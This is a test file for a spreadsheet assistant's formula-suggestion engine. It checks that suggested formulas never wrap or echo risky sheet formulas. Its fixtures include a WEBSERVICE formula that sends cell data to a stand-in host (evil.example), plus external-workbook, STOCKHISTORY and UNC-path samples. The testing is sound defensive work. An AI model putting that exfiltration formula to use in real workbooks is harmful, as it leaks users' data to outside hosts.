// The analysis engine's own suggested formulas pass the same formula policy as proposals: it
// wraps the formulas it finds behind error cells (IFERROR/IFNA) and builds criteria from cell
// text, so a hostile sheet could otherwise get a risky formula offered back to the user — in
// the playground's list, the offline analyst's answer and the model's prompt.
import { describe, expect, it } from "vitest";
import { buildOfflineAnswer } from "@/lib/ai/offline-analyst";
import { buildDataSection } from "@/lib/ai/prompts/build-data-section";
import { analyzeExcelContext, buildCompactContext, parseExcelContext, type ExcelAnalysis, type Recommendation } from "@/lib/excel";
import { isFormulaAllowed } from "@/lib/excel/formula/formula-policy";

function analyze(raw: unknown): ExcelAnalysis {
  return analyzeExcelContext(parseExcelContext(raw, { maxCells: 1_000_000 }));
}

const formulas = (a: ExcelAnalysis) => a.recommendations.filter((r): r is Extract<Recommendation, { kind: "formula" }> => r.kind === "formula").map((r) => r.formula);

/** A column of failing formulas, each the given text for its row, next to amounts. */
function sheetWithFailing(formula: (row: number) => string, error = "#VALUE!") {
  const values: (string | number)[][] = [["Email", "Score", "Lookup"]];
  const cellFormulas: (string | number)[][] = [["Email", "Score", "Lookup"]];
  for (let row = 2; row <= 9; row++) {
    values.push([`user${row}@example.com`, row * 10, error]);
    cellFormulas.push([`user${row}@example.com`, row * 10, formula(row)]);
  }
  return { selectedRange: { address: "Sheet1!A1:C9", values, formulas: cellFormulas, rowCount: 9, columnCount: 3 }, worksheet: { name: "Sheet1" } };
}

describe("suggested formulas", () => {
  it.each([
    ["WEBSERVICE", (row: number) => `=WEBSERVICE("https://evil.example/?d="&A${row})`],
    ["a function passed by name", (row: number) => `=MAP(A${row},WEBSERVICE)`],
    ["another workbook", (row: number) => `='[Budget]Q1'!B${row}*2`],
    ["STOCKHISTORY", (row: number) => `=STOCKHISTORY(A${row},TODAY())`],
  ])("never wrap a sheet's formula that calls out (%s)", (_what, formula) => {
    const a = analyze(sheetWithFailing(formula));
    expect(a.insights.some((i) => i.kind === "errors")).toBe(true);
    const suggested = formulas(a);
    expect(suggested.some((f) => /^=IF(ERROR|NA)\(/.test(f))).toBe(false);
    // The safe suggestions for the same errors are still there.
    expect(suggested).toContain("=SUMPRODUCT(--ISERROR(A2:C9))");
    expect(suggested.every(isFormulaAllowed)).toBe(true);
    const text = buildOfflineAnswer({ intent: "formula_help", reason: { kind: "not_configured" }, context: null, analysis: a });
    expect(text).not.toMatch(/WEBSERVICE|STOCKHISTORY|\[Budget\]/);
  });

  it("still wraps the sheet's own safe formulas", () => {
    const a = analyze(sheetWithFailing((row) => `=VLOOKUP(A${row},Prices!A:B,2,FALSE)`, "#N/A"));
    expect(formulas(a)[0]).toBe('=IFNA(VLOOKUP(A2,Prices!A:B,2,FALSE),"Not found")');
  });

  it("never builds a criterion from text that would make the formula reach a file or the web", () => {
    const raw = {
      selectedRange: {
        address: "A1:B7",
        values: [["Source", "Hits"], ["\\\\files\\share\\x", 1], ["\\\\files\\share\\x", 2], ["\\\\files\\share\\x", 3], ["local", 4], ["local", 5], ["local", 6]],
      },
    };
    const a = analyze(raw);
    const suggested = formulas(a);
    expect(suggested.length).toBeGreaterThan(0);
    expect(suggested.every(isFormulaAllowed)).toBe(true);
    expect(suggested.join(" ")).not.toContain("\\\\files");
    const context = parseExcelContext(raw, { maxCells: 1_000 })!;
    const section = buildDataSection({ compact: buildCompactContext(context, a), analysis: a });
    expect(section.text).not.toMatch(/formula [^\n]*\\\\files/);
  });
});
